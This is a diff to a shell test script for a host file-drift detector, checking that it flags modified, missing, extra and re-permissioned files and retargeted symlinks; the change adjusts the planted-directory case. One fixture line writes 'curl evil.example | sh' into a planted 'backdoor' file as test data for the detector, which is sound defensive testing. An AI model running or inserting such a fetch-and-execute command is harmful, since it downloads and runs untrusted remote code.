@@ -33,7 +33,8 @@ rm "$M/weights.bin"
 echo 'curl evil.example | sh' >"$SW/bin/backdoor"
 chmod 777 "$SW/bin/run"
 ln -sfn libapp.so.2 "$SW/lib/libapp.so"
-mkdir "$SW/share"
+mkdir -p "$SW/share/planted"
+echo x >"$SW/share/planted/tool"
 expect_rc 1 H --format json
 findings >"$T/got"
 cat >"$T/want" <<EOS
@@ -53,7 +54,7 @@ jq -r '.findings[] | select(.rule_id == "host.drift.modified") | .evidence' "$T/
 	grep -q '^sha256 [0-9a-f]\{16\}\.\.\., installed [0-9a-f]\{16\}\.\.\.$' || fail "modified evidence"
 [ "$(jq -r '.findings[] | select(.rule_id == "host.drift.modified") | .severity' "$T/out")" = high ] ||
 	fail "severity"
-ok "modified, missing, extra (file and dir), mode and retargeted symlink: one finding each, at the installed path"
+ok "modified, missing, extra (a file; a dir, once, not its content), mode and retargeted symlink: one finding each, at the installed path"
 
 # a file replaced by a symlink to somewhere outside: reported, never followed
 rm "$SW/bin/run"
